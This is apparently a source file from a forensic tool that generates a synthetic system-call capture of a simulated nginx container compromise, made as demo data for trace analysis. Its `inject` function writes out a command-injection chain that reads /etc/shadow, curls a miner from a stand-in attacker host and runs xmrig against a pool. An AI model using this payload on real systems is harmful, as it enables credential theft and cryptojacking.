/**
 * The built-in demo case: a small, deterministic capture of a web-server compromise, generated
 * from scratch with the project's writer and event table (no bytes come from any real capture).
 *
 * Story (about 45 s on host "web01"):
 * - nginx in container web-frontend (nginx:1.25) serves ordinary browser sessions on :80, and
 *   a Prometheus node_exporter on the host answers scrapes;
 * - 203.0.113.50 probes the site, then sends a request whose query string carries a shell
 *   injection; the nginx worker forks `/bin/sh -c ...`, which runs `cat /etc/shadow`, downloads a
 *   miner with curl to /tmp/xmrig, `chmod +x`es it and runs it;
 * - xmrig resolves pool.minexmr.com (198.51.100.23), connects to :4444 and logs in with stratum
 *   JSON, then submits shares while the benign traffic goes on.
 *
 * Event versions are the newest that sysdig 0.29.3 also decodes, so the reference decoder can
 * check the file; every param is filled as the current drivers would.
 */
import { createHash } from 'node:crypto';
import type { SyntheticEvent } from '../encode.js';
import type { GroupInfo, InterfaceInfo, MachineInfo, UserInfo } from '../metadata.js';
import { CaptureWriter } from '../writer.js';
import { flagBits, type Endpoint } from './params.js';
import * as P from './payloads.js';
import { CAPS_DOCKER, ERRNO, proc, Sim, type Proc } from './sim.js';

/** 2025-03-18 14:02:07 UTC plus some nanoseconds, so timestamps do not look rounded. */
export const DEMO_START = 1_742_306_527_118_402_551n;
const SEED = 0x7ace_40d;
/** Bytes of I/O data kept per event (as if captured with `-s 1024`). */
const SNAPLEN = 1024;

const S = 1_000_000_000;
const MS = 1_000_000;
const US = 1_000;
const at = (sec: number) => DEMO_START + BigInt(Math.round(sec * S));

const sha = (s: string) => createHash('sha256').update(s).digest('hex');

export const DEMO = {
  hostname: 'web01',
  hostIp: '10.0.2.15',
  dnsServer: '10.0.2.3',
  monitor: '10.0.2.2',
  containerId: sha('tracehound-demo/web-frontend'),
  containerName: 'web-frontend',
  image: 'nginx:1.25',
  containerIp: '172.17.0.2',
  attacker: '203.0.113.50',
  poolName: 'pool.minexmr.com',
  poolIp: '198.51.100.23',
  poolPort: 4444,
  stagingPort: 8080,
  minerPath: '/tmp/xmrig',
  pids: { nginxMaster: 2862, worker1: 2901, worker2: 2902, sh: 3371, cat: 3372, curl: 3373, chmod: 3374, xmrig: 3375 },
} as const;

const machine: MachineInfo = {
  numCpus: 4,
  memorySizeBytes: 8 * 1024 * 1024 * 1024,
  maxPid: 4194304,
  hostname: DEMO.hostname,
  bootTsEpoch: DEMO_START - 3n * 86400n * BigInt(S) - 4_812_377_001n,
  flags: 0n,
  reserved3: 0n,
  reserved4: 0n,
};

const interfaces: InterfaceInfo[] = [
  { type: 1, family: 4, name: 'lo', addr: '127.0.0.1', netmask: '255.0.0.0', bcast: '127.0.0.1', linkspeed: 0n },
  { type: 1, family: 4, name: 'eth0', addr: DEMO.hostIp, netmask: '255.255.255.0', bcast: '10.0.2.255', linkspeed: 0n },
  { type: 1, family: 4, name: 'docker0', addr: '172.17.0.1', netmask: '255.255.0.0', bcast: '172.17.255.255', linkspeed: 0n },
];

const users: UserInfo[] = [
  { uid: 0, gid: 0, name: 'root', homedir: '/root', shell: '/bin/bash' },
  { uid: 1, gid: 1, name: 'daemon', homedir: '/usr/sbin', shell: '/usr/sbin/nologin' },
  { uid: 33, gid: 33, name: 'www-data', homedir: '/var/www', shell: '/usr/sbin/nologin' },
  { uid: 101, gid: 101, name: 'nginx', homedir: '/nonexistent', shell: '/bin/false' },
  { uid: 65534, gid: 65534, name: 'nobody', homedir: '/nonexistent', shell: '/usr/sbin/nologin' },
];

const groups: GroupInfo[] = [
  { gid: 0, name: 'root' },
  { gid: 1, name: 'daemon' },
  { gid: 33, name: 'www-data' },
  { gid: 101, name: 'nginx' },
  { gid: 65534, name: 'nogroup' },
];

const CGROUP_SUBSYS = ['cpuset', 'cpu', 'cpuacct', 'blkio', 'memory', 'devices', 'freezer', 'net_cls', 'perf_event', 'net_prio', 'hugetlb', 'pids', 'rdma', 'name=systemd'];
const cgroups = (path: string) => CGROUP_SUBSYS.map((s) => `${s}=${s === 'rdma' ? '/' : path}`);
const CONTAINER_CGROUPS = cgroups(`/docker/${DEMO.containerId}`);

const CONTAINER_ENV = [
  'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
  `HOSTNAME=${DEMO.containerId.slice(0, 12)}`,
  'NGINX_VERSION=1.25.5',
  'NJS_VERSION=0.8.4',
  'NJS_RELEASE=3~bookworm',
  'PKG_RELEASE=1~bookworm',
  'HOME=/root',
];

/** Container metadata as libsinsp serialises it into a container JSON event. */
function containerJson(): string {
  const imageId = sha('tracehound-demo/nginx:1.25/image');
  return JSON.stringify({
    container: {
      Mounts: [],
      cpu_period: 100000,
      cpu_quota: 0,
      cpu_shares: 1024,
      cpuset_cpu_count: 4,
      created_time: Number((DEMO_START - 2n * 86400n * BigInt(S)) / BigInt(S)),
      env: CONTAINER_ENV,
      full_id: DEMO.containerId,
      id: DEMO.containerId.slice(0, 12),
      image: DEMO.image,
      imagedigest: `sha256:${sha('tracehound-demo/nginx:1.25/digest')}`,
      imageid: imageId,
      imagerepo: 'nginx',
      imagetag: '1.25',
      ip: DEMO.containerIp,
      is_pod_sandbox: false,
      labels: {
        maintainer: 'NGINX Docker Maintainers <docker-maint@nginx.com>',
        'org.tracehound.demo': 'synthetic capture generated by `tracehound demo`',
      },
      lookup_state: 1,
      memory_limit: 0,
      metadata_deadline: 0,
      name: DEMO.containerName,
      port_mappings: [{ ContainerPort: 80, HostIp: 0, HostPort: 80 }],
      privileged: false,
      swap_limit: 0,
      type: 0,
    },
  });
}

const F = (names: string[]) => flagBits('file_flags', names);

/** Processes running when the capture starts, with their fd tables. */
function cast(sim: Sim): Record<string, Proc> {
  const hostEnv = ['LANG=C.UTF-8', 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'INVOCATION_ID=3f0c2a7d1e4b4c55a0d9e8f1b2c3d4e5'];
  const ctrStart = DEMO_START - 2n * 86400n * BigInt(S) + 5_120_000_000n;
  const systemd = sim.add(proc({ tid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd', args: ['splash'], cgroups: cgroups('/init.scope'), env: ['HOME=/', 'TERM=linux'], vmsizeKb: 167_812, vmrssKb: 12_944, pfMajor: 112, pfMinor: 51_034 }));
  const sshd = sim.add(proc({ tid: 640, comm: 'sshd', exe: 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', exepath: '/usr/sbin/sshd', cgroups: cgroups('/system.slice/ssh.service'), env: hostEnv, vmsizeKb: 15_432, vmrssKb: 9_120 }));
  const containerd = sim.add(proc({ tid: 788, comm: 'containerd', exe: '/usr/bin/containerd', cgroups: cgroups('/system.slice/containerd.service'), env: hostEnv, vmsizeKb: 1_948_332, vmrssKb: 48_712 }));
  const dockerd = sim.add(proc({ tid: 911, comm: 'dockerd', exe: '/usr/bin/dockerd', args: ['-H', 'fd://', '--containerd=/run/containerd/containerd.sock'], cgroups: cgroups('/system.slice/docker.service'), env: hostEnv, vmsizeKb: 2_301_484, vmrssKb: 81_264 }));
  const exporter = sim.add(
    proc({ tid: 1187, comm: 'node_exporter', exe: '/usr/local/bin/node_exporter', args: ['--web.listen-address=0.0.0.0:9100'], uid: 65534, gid: 65534, capEffective: 0n, cgroups: cgroups('/system.slice/node_exporter.service'), env: hostEnv, vmsizeKb: 1_238_716, vmrssKb: 22_408, cpu: 1 }),
  );
  const shim = sim.add(
    proc({ tid: 2841, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'moby', '-id', DEMO.containerId, '-address', '/run/containerd/containerd.sock'], cgroups: cgroups('/system.slice/containerd.service'), env: hostEnv, vmsizeKb: 1_238_092, vmrssKb: 11_876 }),
  );
  const inCtr = { cgroups: CONTAINER_CGROUPS, env: CONTAINER_ENV, pidnsInitStartTs: ctrStart, exeIno: 1_837_221n, exeInoCtime: 1_741_046_400_000_000_000n, exeInoMtime: 1_741_046_400_000_000_000n, exeFlags: ['EXE_LOWER_LAYER'] };
  const master = sim.add(
    proc({ tid: DEMO.pids.nginxMaster, ptid: shim.tid, vtid: 1, vpid: 1, sid: DEMO.pids.nginxMaster, vpgid: 1, comm: 'nginx', exe: 'nginx: master process nginx -g daemon off;', exepath: '/usr/sbin/nginx', capEffective: CAPS_DOCKER, vmsizeKb: 11_412, vmrssKb: 7_236, ...inCtr }),
  );
  const worker = (tid: number, vtid: number, cpu: number) =>
    sim.add(proc({ tid, ptid: master.tid, vtid, vpid: vtid, sid: master.tid, vpgid: 1, pgid: master.tid, comm: 'nginx', exe: 'nginx: worker process', exepath: '/usr/sbin/nginx', uid: 101, gid: 101, capEffective: 0n, vmsizeKb: 11_876, vmrssKb: 3_112, cpu, ...inCtr }));
  const w1 = worker(DEMO.pids.worker1, 29, 2);
  const w2 = worker(DEMO.pids.worker2, 30, 3);

  const stdio = (p: Proc, out: bigint, err: bigint) => {
    p.fds.set(0, { kind: 'file', name: '/dev/null', flags: F(['O_RDWR']), ino: 6n, dev: 0x5 });
    p.fds.set(1, { kind: 'pipe', ino: out });
    p.fds.set(2, { kind: 'pipe', ino: err });
  };
  // systemd services: stdin /dev/null, stdout and stderr connected to the journal.
  let journal = 0xffff8e0a41c07400n;
  for (const p of [sshd, containerd, dockerd, exporter, shim]) {
    p.fds.set(0, { kind: 'file', name: '/dev/null', flags: F(['O_RDWR']), ino: 6n, dev: 0x5 });
    for (const fd of [1, 2]) p.fds.set(fd, { kind: 'unix', source: (journal += 0x400n), dest: 0xffff8e0a40e1b800n, path: '/run/systemd/journal/stdout' });
  }
  stdio(systemd, 11_157n, 11_157n);
  systemd.fds.set(0, { kind: 'file', name: '/dev/null', flags: F(['O_RDWR']), ino: 6n, dev: 0x5 });
  systemd.fds.set(3, { kind: 'file', name: '/dev/kmsg', flags: F(['O_WRONLY', 'O_CLOEXEC']), ino: 12n, dev: 0x5 });
  sshd.fds.set(3, { kind: 'listen4', ip: '0.0.0.0', port: 22, ino: 18_211n });
  sshd.fds.set(4, { kind: 'listen6', ip: '::', port: 22, ino: 18_213n });
  containerd.fds.set(3, { kind: 'unix', source: 0xffff8e0a47d3c400n, dest: 0n, path: '/run/containerd/containerd.sock' });
  dockerd.fds.set(3, { kind: 'unix', source: 0xffff8e0a4a1f0800n, dest: 0n, path: '/run/docker.sock' });
  exporter.fds.set(3, { kind: 'listen4', ip: '0.0.0.0', port: 9100, ino: 21_377n });
  exporter.fds.set(4, { kind: 'epoll', ino: 9_608n });
  for (const p of [master, w1, w2]) {
    stdio(p, 388_190n, 388_191n);
    p.fds.set(3, { kind: 'unix', source: 0xffff8e0a5c2b7000n + BigInt(p.tid), dest: 0xffff8e0a5c2b9000n + BigInt(p.tid), path: '' });
    p.fds.set(4, { kind: 'file', name: '/var/log/nginx/access.log', flags: F(['O_WRONLY', 'O_APPEND', 'O_CREAT']), ino: 1_837_410n, dev: 0x2d });
    p.fds.set(5, { kind: 'file', name: '/var/log/nginx/error.log', flags: F(['O_WRONLY', 'O_APPEND', 'O_CREAT']), ino: 1_837_411n, dev: 0x2d });
    p.fds.set(6, { kind: 'listen4', ip: '0.0.0.0', port: 80, ino: 389_004n });
    p.fds.set(7, { kind: 'listen6', ip: '::', port: 80, ino: 389_005n });
  }
  for (const w of [w1, w2]) w.fds.set(8, { kind: 'epoll', ino: 9_608n });
  return { systemd, sshd, containerd, dockerd, exporter, shim, master, w1, w2 };
}

// --- the web site -------------------------------------------------------------------------------

interface Page {
  path: string;
  type: string;
  size: number;
}

const SITE: Record<string, Page> = {
  '/': { path: '/usr/share/nginx/html/index.html', type: 'text/html', size: 3120 },
  '/assets/app.css': { path: '/usr/share/nginx/html/assets/app.css', type: 'text/css', size: 18_244 },
  '/assets/app.js': { path: '/usr/share/nginx/html/assets/app.js', type: 'application/javascript', size: 51_823 },
  '/img/logo.png': { path: '/usr/share/nginx/html/img/logo.png', type: 'image/png', size: 9_712 },
  '/pricing.html': { path: '/usr/share/nginx/html/pricing.html', type: 'text/html', size: 5_460 },
};

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
];

class Web {
  private conn = 412;
  private readonly server: Endpoint = { ip: DEMO.containerIp, port: 80 };
  constructor(private readonly sim: Sim) {}

  private docRoot(target: string): string {
    return `/usr/share/nginx/html${target.split('?')[0]}`;
  }

  /** One request on an accepted connection, answered from disk or with nginx's 404 page. */
  request(w: Proc, fd: number, client: Endpoint, target: string, ua: string, referer = '-', gapNs = 30 * MS): void {
    const sim = this.sim;
    const conn = this.conn;
    sim.wait(gapNs);
    sim.epollWait(w, 1, 20 * US);
    const req = P.httpRequest('GET', target, `${DEMO.hostname}.example.com`, ua, ['Accept-Encoding: gzip, deflate', 'Connection: keep-alive']);
    sim.recvfrom(w, fd, 1024, req);
    const line = `GET ${target} HTTP/1.1`;
    const page = SITE[target];
    if (page) {
      const ffd = sim.openat(w, page.path, ['O_RDONLY', 'O_NONBLOCK'], 0, { ino: 1_838_000n + BigInt(page.size % 997) });
      sim.fstat(w, ffd);
      const head = P.responseHead(200, sim.ts, page.type, page.size, ['Accept-Ranges: bytes']);
      sim.writev(w, fd, head);
      sim.sendfile(w, fd, ffd, page.size);
      sim.write(w, 4, P.accessLogLine(sim.ts, client.ip, line, 200, page.size, referer, ua));
      sim.close(w, ffd);
    } else {
      const path = this.docRoot(target);
      sim.openat(w, path, ['O_RDONLY', 'O_NONBLOCK'], 0, { errno: ERRNO.ENOENT });
      sim.write(w, 5, P.openFailedLogLine(sim.ts, w.vpid, conn, path, client.ip, line, `${DEMO.hostname}.example.com`));
      const body = P.NOT_FOUND_BODY;
      sim.writev(w, fd, Buffer.concat([P.responseHead(404, sim.ts, 'text/html', body.length), body]));
      sim.write(w, 4, P.accessLogLine(sim.ts, client.ip, line, 404, body.length, referer, ua));
    }
    sim.recvfrom(w, fd, 1024, Buffer.alloc(0), null, ERRNO.EAGAIN);
  }

  open(w: Proc, client: Endpoint): number {
    this.sim.epollWait(w, 1, 15 * US);
    this.conn++;
    return this.sim.accept(w, 6, client, this.server);
  }

  /** The client hung up: the read returns 0 and nginx closes the socket. */
  finish(w: Proc, fd: number): void {
    this.sim.wait(40 * MS);
    this.sim.epollWait(w, 1, 10 * US);
    this.sim.recvfrom(w, fd, 1024, Buffer.alloc(0));
    this.sim.close(w, fd);
  }

  /** A browser visit: the page, its assets, sometimes a second page. */
  session(w: Proc, client: Endpoint, ua: string): void {
    const fd = this.open(w, client);
    const sim = this.sim;
    this.request(w, fd, client, '/', ua, '-', 5 * MS);
    const ref = `http://${DEMO.hostname}.example.com/`;
    for (const t of ['/assets/app.css', '/assets/app.js', '/img/logo.png']) this.request(w, fd, client, t, ua, ref, sim.int(2, 12) * MS);
    if (sim.rnd() < 0.3) this.request(w, fd, client, '/favicon.ico', ua, ref, 20 * MS);
    if (sim.rnd() < 0.4) this.request(w, fd, client, '/pricing.html', ua, ref, sim.int(800, 2500) * MS);
    this.finish(w, fd);
  }
}

// --- host background ------------------------------------------------------------------------------

/** Prometheus scraping node_exporter on the host: the host side of the capture. */
function scrape(sim: Sim, ex: Proc, port: number): void {
  const client = { ip: DEMO.monitor, port };
  sim.epollWait(ex, 1, 50 * US);
  const fd = sim.accept(ex, 3, client, { ip: DEMO.hostIp, port: 9100 });
  sim.read(ex, fd, 4096, P.httpRequest('GET', '/metrics', `${DEMO.hostIp}:9100`, 'Prometheus/2.53.3', ['Accept-Encoding: gzip', 'X-Prometheus-Scrape-Timeout-Seconds: 10']));
  const files: [string, string][] = [
    ['/proc/loadavg', '0.42 0.31 0.27 3/412 3370\n'],
    ['/proc/meminfo', 'MemTotal:        8148204 kB\nMemFree:         5021148 kB\nMemAvailable:    6930112 kB\n'],
    ['/proc/stat', 'cpu  1184211 2511 301442 89221410 10233 0 4121 0 0 0\n'],
    ['/proc/net/dev', 'Inter-|   Receive                                                |  Transmit\n'],
  ];
  for (const [path, text] of files) {
    const ffd = sim.openat(ex, path, ['O_RDONLY', 'O_CLOEXEC'], 0, { dev: 0x16 });
    sim.read(ex, ffd, 4096, Buffer.from(text));
    sim.read(ex, ffd, 4096, Buffer.alloc(0));
    sim.close(ex, ffd);
  }
  const body = Buffer.from('# HELP node_load1 1m load average.\n# TYPE node_load1 gauge\nnode_load1 0.42\n');
  sim.write(ex, fd, Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: text/plain; version=0.0.4; charset=utf-8\r\nDate: ${P.httpDate(sim.ts)}\r\nContent-Length: 8312\r\n\r\n`), body]));
  sim.close(ex, fd);
}

// --- the attack --------------------------------------------------------------------------------------

interface Miner {
  proc: Proc;
  fd: number;
  session: string;
  jobId: string;
  nextId: number;
}

function inject(wallet: string): { target: string; command: string } {
  const command = [
    'echo localhost',
    'cat /etc/shadow',
    `curl -s -o ${DEMO.minerPath} http://${DEMO.attacker}:${DEMO.stagingPort}/xmrig`,
    `chmod +x ${DEMO.minerPath}`,
    `${DEMO.minerPath} -o stratum+tcp://${DEMO.poolName}:${DEMO.poolPort} -u ${wallet} -p web01 -k --donate-level=1`,
  ].join(';');
  return { target: `/cgi-bin/diag?host=${encodeURIComponent(command).replace(/%2F/g, '/')}`, command };
}

/** The child of a fork runs a program from the image and exits. */
function runTool(sim: Sim, parent: Proc, tid: number, vtid: number, argv: string[], exepath: string, comm: string, body: (p: Proc) => void): Proc {
  const p = sim.fork(parent, tid, vtid, parent.cpu ^ 1);
  sim.execve(p, argv[0]!, argv, { comm, exepath, flags: ['EXE_LOWER_LAYER'], ino: 1_836_000n + BigInt(tid % 1000), ctime: 1_741_046_400_000_000_000n, mtime: 1_741_046_400_000_000_000n, vmsizeKb: 5_480, vmrssKb: 1_812 });
  body(p);
  sim.exit(p, 0, parent.tid);
  return p;
}

function attack(sim: Sim, web: Web, w: Proc, wallet: string): Miner {
  const client = { ip: DEMO.attacker, port: 51_874 };
  const { target, command } = inject(wallet);
  const ua = 'curl/8.5.0';
  const fd = web.open(w, client);
  sim.wait(3 * MS);
  sim.epollWait(w, 1, 20 * US);
  sim.recvfrom(w, fd, 1024, P.httpRequest('GET', target, `${DEMO.hostname}.example.com`, ua));

  // The vulnerable handler hands the query string to a shell.
  const sh = sim.fork(w, DEMO.pids.sh, 41, 0);
  sim.execve(sh, '/bin/sh', ['/bin/sh', '-c', command], { comm: 'sh', exepath: '/usr/bin/dash', flags: ['EXE_LOWER_LAYER'], ino: 1_835_114n, ctime: 1_741_046_400_000_000_000n, mtime: 1_741_046_400_000_000_000n, vmsizeKb: 2_576, vmrssKb: 892 });
  const body = Buffer.from('ok\n');
  sim.writev(w, fd, Buffer.concat([P.responseHead(200, sim.ts, 'text/plain', body.length), body]));
  sim.write(w, 4, P.accessLogLine(sim.ts, client.ip, `GET ${target} HTTP/1.1`, 200, body.length, '-', ua));
  sim.write(sh, 1, Buffer.from('localhost\n'));

  runTool(sim, sh, DEMO.pids.cat, 42, ['cat', '/etc/shadow'], '/usr/bin/cat', 'cat', (p) => {
    const f = sim.openat(p, '/etc/shadow', ['O_RDONLY'], 0, { ino: 1_835_877n });
    sim.fstat(p, f);
    sim.read(p, f, 131_072, P.SHADOW);
    sim.write(p, 1, P.SHADOW);
    sim.read(p, f, 131_072, Buffer.alloc(0));
    sim.close(p, f);
  });
  web.finish(w, fd);

  // Download the miner from the attacker's staging server.
  const minerIno = sim.ino();
  let downloaded = 0n;
  runTool(sim, sh, DEMO.pids.curl, 43, ['curl', '-s', '-o', DEMO.minerPath, `http://${DEMO.attacker}:${DEMO.stagingPort}/xmrig`], '/usr/bin/curl', 'curl', (p) => {
    const s = sim.socket(p, false, 1);
    const local = { ip: DEMO.containerIp, port: 40_212 };
    const remote = { ip: DEMO.attacker, port: DEMO.stagingPort };
    sim.connect(p, s, local, remote, ERRNO.EINPROGRESS);
    sim.poll(p, [[s, 4]], 1000, 1, 48 * MS);
    sim.sendto(p, s, P.httpRequest('GET', '/xmrig', `${DEMO.attacker}:${DEMO.stagingPort}`, 'curl/7.88.1'));
    const size = 2_891_776;
    const head = Buffer.from(
      `HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nDate: ${P.httpDate(sim.ts)}\r\nContent-type: application/octet-stream\r\nContent-Length: ${size}\r\nLast-Modified: Sun, 16 Mar 2025 22:41:09 GMT\r\n\r\n`,
    );
    let got = 0;
    let out = -1;
    while (got < size) {
      sim.poll(p, [[s, 1]], 1000, 1, sim.int(2, 9) * MS);
      const n = Math.min(size - got, got === 0 ? 14_480 - head.length : sim.int(8, 64) * 1024);
      const chunk = got === 0 ? Buffer.concat([head, P.elfHead(n)]) : P.noise(Math.min(n, 1024), sim.rnd);
      const data = got === 0 ? chunk : Buffer.concat([chunk, Buffer.alloc(n - chunk.length)]);
      sim.recvfrom(p, s, 102_400, data);
      if (out < 0) out = sim.openat(p, DEMO.minerPath, ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], 0o666, { ino: minerIno, created: true });
      sim.write(p, out, got === 0 ? P.elfHead(n) : data);
      got += n;
    }
    sim.poll(p, [[s, 1]], 1000, 1, 2 * MS);
    sim.recvfrom(p, s, 102_400, Buffer.alloc(0));
    sim.close(p, out);
    sim.close(p, s);
    downloaded = sim.ts;
  });

  runTool(sim, sh, DEMO.pids.chmod, 44, ['chmod', '+x', DEMO.minerPath], '/usr/bin/chmod', 'chmod', (p) => {
    sim.fchmodat(p, DEMO.minerPath, 0o755);
  });
  const chmodded = sim.ts;

  // The miner: a binary dropped into the container's writable layer.
  sim.wait(4 * MS);
  const x = sim.fork(sh, DEMO.pids.xmrig, 45, 1);
  const argv = [DEMO.minerPath, '-o', `stratum+tcp://${DEMO.poolName}:${DEMO.poolPort}`, '-u', wallet, '-p', 'web01', '-k', '--donate-level=1'];
  sim.execve(x, DEMO.minerPath, argv, { comm: 'xmrig', exepath: DEMO.minerPath, flags: ['EXE_WRITABLE', 'EXE_UPPER_LAYER'], ino: minerIno, ctime: chmodded, mtime: downloaded, vmsizeKb: 612_332, vmrssKb: 14_220 });
  sim.write(x, 1, Buffer.from(' * ABOUT        XMRig/6.21.0 gcc/12.2.0\n * LIBS         libuv/1.44.2 OpenSSL/3.0.13 hwloc/2.10.0\n * CPU          Intel(R) Xeon(R) CPU @ 2.20GHz (1) 64-bit AES\n'));
  const online = sim.openat(x, '/sys/devices/system/cpu/online', ['O_RDONLY', 'O_CLOEXEC'], 0, { dev: 0x15 });
  sim.read(x, online, 4096, Buffer.from('0-3\n'));
  sim.close(x, online);
  sim.openat(x, '/proc/sys/vm/nr_hugepages', ['O_WRONLY'], 0, { errno: 13 });
  sim.write(x, 1, Buffer.from(' * MEMORY       0.3/7.8 GB (4%)\n * DONATE       1%\n * POOL #1      pool.minexmr.com:4444 algo auto\n'));

  // Resolve the pool through the host's resolver.
  const rc = sim.openat(x, '/etc/resolv.conf', ['O_RDONLY', 'O_CLOEXEC'], 0, { ino: 1_835_003n });
  sim.read(x, rc, 4096, Buffer.from(`# Generated by Docker Engine.\nnameserver ${DEMO.dnsServer}\nsearch example.com\n`));
  sim.close(x, rc);
  const dns = sim.socket(x, true, 2 | 0x800 | 0x80000);
  const dnsLocal = { ip: DEMO.containerIp, port: 41_877 };
  const dnsServer = { ip: DEMO.dnsServer, port: 53 };
  sim.connect(x, dns, dnsLocal, dnsServer);
  const qid = 0x5c1d;
  sim.sendto(x, dns, P.dnsQuery(qid, DEMO.poolName));
  sim.poll(x, [[dns, 1]], 5000, 1, 11 * MS);
  sim.recvfrom(x, dns, 2048, P.dnsAnswer(qid, DEMO.poolName, DEMO.poolIp, 300), { src: dnsServer, dst: dnsLocal });
  sim.close(x, dns);

  // Connect to the pool and log in (stratum over plain TCP).
  const s = sim.socket(x, false, 1 | 0x800 | 0x80000);
  sim.connect(x, s, { ip: DEMO.containerIp, port: 50_112 }, { ip: DEMO.poolIp, port: DEMO.poolPort }, ERRNO.EINPROGRESS);
  sim.poll(x, [[s, 4]], 10_000, 1, 96 * MS);
  sim.write(x, s, P.stratumLogin(wallet, 'web01'));
  sim.poll(x, [[s, 1]], 10_000, 1, 104 * MS);
  const session = P.hex(32, sim.rnd);
  const job = P.stratumJob(sim.rnd, session, 3_374_112);
  sim.read(x, s, 65_536, job.text);
  sim.write(x, 1, Buffer.from(` * use pool ${DEMO.poolName}:${DEMO.poolPort}  ${DEMO.poolIp}\n * new job from ${DEMO.poolName}:${DEMO.poolPort} diff 120001 algo rx/0 height 3374112\n`));
  return { proc: x, fd: s, session, jobId: job.jobId, nextId: 2 };
}

function submitShare(sim: Sim, m: Miner): void {
  const id = m.nextId++;
  sim.write(m.proc, m.fd, P.stratumSubmit(id, m.session, m.jobId, sim.rnd));
  sim.poll(m.proc, [[m.fd, 1]], 10_000, 1, 98 * MS);
  sim.read(m.proc, m.fd, 65_536, P.stratumOk(id));
  sim.write(m.proc, 1, Buffer.from(` * cpu accepted (${id - 1}/0) diff 120001 (${sim.int(95, 130)} ms)\n`));
}

// --- the capture --------------------------------------------------------------------------------------

export interface DemoSummary {
  events: number;
  threads: number;
  fds: number;
  start: bigint;
  end: bigint;
}

/** Write the whole demo capture through `w` (a fresh writer). Deterministic. */
export function writeDemoIncident(w: CaptureWriter): DemoSummary {
  const pending: SyntheticEvent[] = [];
  const sim = new Sim({ start: DEMO_START, seed: SEED, snaplen: SNAPLEN, emit: (e) => pending.push(e) });
  const c = cast(sim);
  const initial = [...sim.procs.values()];
  const threads = initial.map((p) => sim.threadInfo(p));
  const fds = initial.flatMap((p) => sim.fdInfos(p));
  w.machineInfo(machine).interfaces(interfaces).users(users, groups).threads(threads).fds(fds);

  // The container description libscap writes at capture start.
  sim.emitGlobal('CONTAINER_JSON_2_E', { json: containerJson() });
  sim.wait(180 * US);

  const web = new Web(sim);
  const wallet = P.fakeWallet(sim.rnd);
  let clientPort = 52_000;
  const visitor = (i: number): Endpoint => ({ ip: `192.0.2.${[17, 88, 140, 23, 201, 64][i % 6]}`, port: clientPort += sim.int(7, 400) });
  const browse = (i: number, atSec: number) => {
    sim.until(at(atSec));
    web.session(i % 2 === 0 ? c.w1! : c.w2!, visitor(i), BROWSERS[i % BROWSERS.length]!);
  };
  let scrapePort = 38_410;
  const scrapeAt = (atSec: number) => {
    sim.until(at(atSec));
    scrape(sim, c.exporter!, scrapePort += 3);
  };

  // Before: ordinary traffic.
  browse(0, 0.4);
  scrapeAt(1.9);
  browse(1, 2.7);
  browse(2, 4.1);
  browse(3, 6.3);

  // Reconnaissance from the attacker's address.
  sim.until(at(8.2));
  const recon = { ip: DEMO.attacker, port: 51_602 };
  const rfd = web.open(c.w1!, recon);
  for (const t of ['/', '/.env', '/.git/config', '/cgi-bin/']) web.request(c.w1!, rfd, recon, t, 'Mozilla/5.0 zgrab/0.x', '-', 120 * MS);
  web.finish(c.w1!, rfd);
  browse(4, 9.6);

  // The exploit, the download and the miner.
  sim.until(at(12.4));
  const miner = attack(sim, web, c.w1!, wallet);

  // After: the site keeps serving while the miner submits shares.
  const after: [number, () => void][] = [
    [17.5, () => browse(5, 17.5)],
    [18.9, () => submitShare(sim, miner)],
    [16.9, () => scrapeAt(16.9)],
    [21.0, () => browse(6, 21.0)],
    [24.6, () => browse(7, 24.6)],
    [25.3, () => submitShare(sim, miner)],
    [28.4, () => browse(8, 28.4)],
    [31.9, () => scrapeAt(31.9)],
    [32.2, () => submitShare(sim, miner)],
    [34.7, () => browse(9, 34.7)],
    [38.1, () => browse(10, 38.1)],
    [39.6, () => submitShare(sim, miner)],
    [42.3, () => browse(11, 42.3)],
    [44.8, () => submitShare(sim, miner)],
  ];
  for (const [t, run] of after.sort((a, b) => a[0] - b[0])) {
    sim.until(at(t));
    run();
  }

  for (const e of pending) w.synthetic(e);
  const first = pending[0]!.ts;
  const last = pending[pending.length - 1]!.ts;
  return { events: pending.length, threads: threads.length, fds: fds.length, start: first, end: last };
}

/** The demo capture as bytes (tests, previews). */
export function buildDemoIncident(): { bytes: Buffer; summary: DemoSummary } {
  const { writer, result } = CaptureWriter.toBuffer({ procListLayout: 'compat' });
  const summary = writeDemoIncident(writer);
  writer.close();
  return { bytes: result(), summary };
}

/** Write the demo capture to `path` (atomically: it appears only when complete). */
export function writeDemoIncidentFile(path: string): DemoSummary {
  const w = CaptureWriter.toFile(path, { procListLayout: 'compat' });
  try {
    const summary = writeDemoIncident(w);
    w.close();
    return summary;
  } catch (e) {
    w.abort();
    throw e;
  }
}
